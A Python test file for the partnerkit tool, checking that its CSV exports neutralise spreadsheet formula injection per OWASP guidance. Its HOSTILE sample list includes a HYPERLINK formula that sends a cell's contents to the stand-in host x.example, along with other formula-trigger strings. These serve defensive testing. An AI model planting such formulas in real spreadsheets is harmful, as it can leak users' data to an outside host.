"""CSV that partnerkit writes opens in a spreadsheet as data, never as formulas.

After the OWASP "CSV Injection" guidance
(https://owasp.org/www-community/attacks/CSV_Injection): a text cell beginning with
``=``, ``+``, ``-``, ``@``, tab, carriage return or line feed gets a leading single
quote; numeric columns stay numbers (a spend of -5 is still -5).
"""

from __future__ import annotations

import csv
import datetime as dt
from decimal import Decimal
from pathlib import Path
from typing import Any

import pyarrow as pa
import yaml
from typer.testing import CliRunner

from partnerkit.cli import app
from partnerkit.records import RecordKind
from partnerkit.store import neutralise_formulas, write_csv
from partnerkit.store.export import FORMULA_TRIGGERS
from partnerkit.stream import RecordStream

HOSTILE = ['=HYPERLINK("http://x.example/?d="&A1,"click")', "+1+1", "-2+3", "@SUM(A1)", "\t=1"]
# what a spreadsheet must show: the same text, behind the single quote it hides
EXPECTED = ["'" + name for name in HOSTILE]


def read_csv(path: Path) -> list[dict[str, str]]:
    with path.open(newline="", encoding="utf-8") as fh:
        return list(csv.DictReader(fh))


def assert_inert(rows: list[dict[str, str]]) -> None:
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(FORMULA_TRIGGERS) or _numeric(cell), (column, cell)


def _numeric(cell: str) -> bool:
    try:
        Decimal(cell)
    except ArithmeticError:
        return False
    return True


def records() -> list[dict[str, Any]]:
    return [
        {
            "date": dt.date(2026, 10, 1),
            "platform": "synth",
            "account_id": "a1",
            "level": "campaign",
            "campaign_id": f"c{i}",
            "campaign_name": name,
            "spend": Decimal("-5"),
            "currency": "ILS",
            "clicks": -1 if i == 0 else i,
        }
        for i, name in enumerate(HOSTILE)
    ]


def test_formula_cells_are_neutralised_and_numbers_stay_numbers(tmp_path: Path) -> None:
    table = RecordStream.from_records(RecordKind.PERFORMANCE, records()).to_arrow()
    path = write_csv(table, tmp_path / "x.csv")
    rows = read_csv(path)
    assert [r["campaign_name"] for r in rows] == EXPECTED
    assert_inert(rows)
    assert [Decimal(r["spend"]) for r in rows] == [Decimal(-5)] * 5
    assert rows[0]["clicks"] == "-1"  # an integer column is not quoted either
    assert [r["campaign_id"] for r in rows] == ["c0", "c1", "c2", "c3", "c4"]


def test_every_trigger_of_the_guidance_and_only_those(tmp_path: Path) -> None:
    cells = ["=1", "+1", "-1", "@1", "\t1", "\r1", "\n1", "1-1", "a=b", "'=1", "", None]
    table = pa.table({"text": cells, "n": pa.array(range(-6, 6), pa.int64())})
    neutral = neutralise_formulas(table)
    assert neutral["text"].to_pylist() == [
        "'=1",
        "'+1",
        "'-1",
        "'@1",
        "'\t1",
        "'\r1",
        "'\n1",
        "1-1",
        "a=b",
        "'=1",
        "",
        None,
    ]
    assert neutral["n"].to_pylist() == list(range(-6, 6))
    # a dictionary-encoded text column is treated the same
    encoded = pa.table({"text": pa.array(["=1", "ok"]).dictionary_encode()})
    assert neutralise_formulas(encoded)["text"].to_pylist() == ["'=1", "ok"]
    # separators and quotes cannot start a new cell inside a value (RFC 4180 quoting)
    path = write_csv(pa.table({"text": ['x",=1+2;=1+2', "a,@b"]}), tmp_path / "q.csv")
    assert [r["text"] for r in read_csv(path)] == ['x",=1+2;=1+2', "a,@b"]


def test_list_columns_are_written_as_json_text(tmp_path: Path) -> None:
    # CSV cannot hold a list (a campaign's labels): it is JSON text, which starts with [
    labels = pa.array([["a", "=b"], None, []], pa.list_(pa.string()))
    table = pa.table({"id": [1, 2, 3], "labels": labels})
    rows = read_csv(write_csv(table, tmp_path / "l.csv"))
    assert [r["labels"] for r in rows] == ['["a", "=b"]', "", "[]"]


#: A workspace file refuses control characters in its text (a tab among them), so the
#: names a connector is configured with cannot start with one; a tab-led name reaching a
#: CSV from the data is covered by the write_csv tests above.
CONFIGURABLE = [name for name in HOSTILE if not name.startswith("\t")]


def test_partnerkit_pull_writes_inert_csv(tmp_path: Path) -> None:
    config = tmp_path / "partnerkit.yaml"
    config.write_text(
        yaml.safe_dump(
            {
                "version": 1,
                "name": "CSV tests",
                "currency": "ILS",
                "timezone": "Asia/Jerusalem",
                "connections": [
                    {
                        "name": "ads",
                        "connector": "synth",
                        "settings": {
                            "campaigns": len(CONFIGURABLE),
                            "campaign_names": CONFIGURABLE,
                            "spend": "-5",
                            "first_day": "2026-10-01",
                            "last_day": "2026-10-01",
                        },
                    }
                ],
            }
        ),
        encoding="utf-8",
    )
    out = tmp_path / "x.csv"
    result = CliRunner().invoke(
        app,
        ["pull", "-c", str(config), "-o", str(out), "--from", "2026-10-01", "--to", "2026-10-01"],
        catch_exceptions=False,
    )
    assert result.exit_code == 0, result.output
    written = sorted(p.name for p in tmp_path.glob("x.*.csv"))
    assert written == ["x.campaign.csv", "x.lead.csv", "x.performance.csv"]
    for path in tmp_path.glob("x.*.csv"):
        assert_inert(read_csv(path))
    rows = read_csv(tmp_path / "x.performance.csv")
    assert sorted(r["campaign_name"] for r in rows) == sorted("'" + n for n in CONFIGURABLE)
    assert_inert(rows)
    assert {Decimal(r["spend"]) for r in rows} == {Decimal(-5)}
